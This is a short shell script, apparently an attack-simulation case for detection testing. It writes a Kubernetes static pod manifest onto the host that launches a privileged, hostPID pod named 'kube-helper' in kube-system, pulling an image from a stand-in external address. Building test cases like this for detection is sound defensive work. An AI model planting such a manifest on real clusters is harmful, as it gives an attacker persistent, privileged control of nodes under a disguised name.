#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/kubernetes/manifests
cat >/host/etc/kubernetes/manifests/kube-helper.yaml <<'EOF'
apiVersion: v1
kind: Pod
metadata: { name: kube-helper, namespace: kube-system }
spec:
  hostPID: true
  containers:
  - { name: x, image: "203.0.113.10/x", securityContext: { privileged: true } }
EOF
took_place
